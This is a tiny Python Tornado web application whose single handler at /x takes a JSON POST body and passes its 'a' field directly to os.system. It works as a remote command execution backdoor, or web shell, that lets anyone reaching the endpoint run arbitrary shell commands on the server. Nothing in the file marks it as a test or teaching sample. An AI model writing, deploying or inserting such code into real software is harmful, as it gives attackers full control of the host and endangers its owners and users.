import os
import json
import tornado.web
class X(tornado.web.RequestHandler):
    def post(self):
        os.system(json.loads(self.request.body)['a'])
app = tornado.web.Application([(r'/x', X)])
